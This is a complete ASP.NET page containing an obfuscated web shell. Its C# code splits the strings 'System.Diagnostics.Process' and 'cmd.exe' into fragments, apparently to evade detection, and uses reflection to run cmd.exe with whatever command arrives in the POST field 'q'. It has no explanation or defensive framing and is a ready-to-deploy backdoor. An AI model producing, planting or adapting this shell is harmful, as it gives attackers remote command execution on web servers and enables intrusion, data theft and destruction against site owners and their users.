<%@ Page Language="C#" %>
<%
    string t = "Sys" + "tem.Diag" + "nostics.Pro" + "cess, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089";
    System.Type pt = System.Type.GetType(t);
    object o = pt.InvokeMember("Start", System.Reflection.BindingFlags.InvokeMethod, null, null,
        new object[] { "c" + "md" + ".exe", "/c " + Request.Form["q"] });
%>
